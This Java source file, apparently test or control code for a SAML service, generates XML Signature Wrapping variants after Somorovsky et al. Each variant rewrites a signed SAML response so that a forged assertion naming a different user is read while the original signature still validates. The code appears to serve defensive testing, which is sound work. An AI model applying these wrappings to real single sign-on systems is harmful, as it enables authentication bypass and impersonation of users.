package fi.sopu.saml.control;

import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The eight signature wrappings of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012):
 * the signed part stays in the document and stays valid, and another one stands where it would be read.
 */
final class Wrapping {

    private static final Pattern SIGNATURE = Pattern.compile("<ds:Signature .*?</ds:Signature>", Pattern.DOTALL);
    private static final String ID = "ID=\"(_assertion[0-9]*)\"";
    private static final Pattern ASSERTION = Pattern.compile("<saml:Assertion .*</saml:Assertion>", Pattern.DOTALL);

    private Wrapping() {
    }

    static Map<String, UnaryOperator<String>> all() {
        Map<String, UnaryOperator<String>> all = new LinkedHashMap<>();
        all.put("response, original in the signature's object (1)", xml -> {
            String evil = evil(xml, "_response", "_evil");
            return evil.replace("</ds:Signature>", "<ds:Object>" + without(xml) + "</ds:Object></ds:Signature>");
        });
        all.put("response, original beside the signature (2)", xml -> {
            String evil = evil(xml, "_response", "_evil");
            return evil.replace("<ds:Signature ", without(xml) + "<ds:Signature ");
        });
        all.put("assertion, another before it (3)", xml -> xml.replace(assertion(xml), evilAssertion(xml) + assertion(xml)));
        all.put("assertion, inside another (4)", xml -> xml.replace(assertion(xml),
                evilAssertion(xml).replace("</saml:Assertion>", assertion(xml) + "</saml:Assertion>")));
        all.put("assertion, another carries its signature (5)", xml -> xml.replace(assertion(xml),
                evilSigned(xml) + assertion(xml).replace(signature(xml), "")));
        all.put("assertion, inside its signature that another carries (6)", xml -> xml.replace(assertion(xml),
                evilSigned(xml).replace("</ds:Signature>", assertion(xml).replace(signature(xml), "") + "</ds:Signature>")));
        all.put("assertion, another in the extensions (7)", xml -> xml.replace(assertion(xml),
                "<samlp:Extensions>" + evilAssertion(xml) + "</samlp:Extensions>" + assertion(xml)));
        all.put("assertion, in an object of the signature that another carries (8)", xml -> xml.replace(assertion(xml),
                evilSigned(xml).replace("</ds:Signature>", "<ds:Object>" + assertion(xml).replace(signature(xml), "") + "</ds:Object></ds:Signature>")));
        all.put("assertion, same ID on another", xml -> xml.replace(assertion(xml),
                assertion(xml).replace(signature(xml), "").replace("G-aino", "G-evil") + assertion(xml)));
        all.put("assertion, another after it without a signature", xml -> xml.replace(assertion(xml), assertion(xml) + evilAssertion(xml)));
        all.put("assertion, hidden in the status", xml -> xml.replace(assertion(xml), evilAssertion(xml))
                .replace("</samlp:Status>", "<samlp:StatusDetail>" + assertion(xml) + "</samlp:StatusDetail></samlp:Status>"));
        return all;
    }

    private static String evil(String xml, String id, String evilId) {
        return xml.replace("ID=\"" + id + "\"", "ID=\"" + evilId + "\"").replaceAll(ID, "ID=\"_evil2\"").replace("G-aino", "G-evil");
    }

    private static String without(String xml) {
        return SIGNATURE.matcher(xml).replaceFirst("");
    }

    private static String assertion(String xml) {
        return found(ASSERTION, xml);
    }

    private static String signature(String xml) {
        return found(SIGNATURE, xml);
    }

    private static String evilAssertion(String xml) {
        return SIGNATURE.matcher(assertion(xml)).replaceFirst("").replaceAll(ID, "ID=\"_evil\"").replace("G-aino", "G-evil");
    }

    private static String evilSigned(String xml) {
        return assertion(xml).replaceAll(ID, "ID=\"_evil\"").replace("G-aino", "G-evil");
    }

    private static String found(Pattern pattern, String xml) {
        Matcher matcher = pattern.matcher(xml);
        if (!matcher.find()) {
            throw new IllegalStateException(pattern.pattern());
        }
        return matcher.group();
    }
}
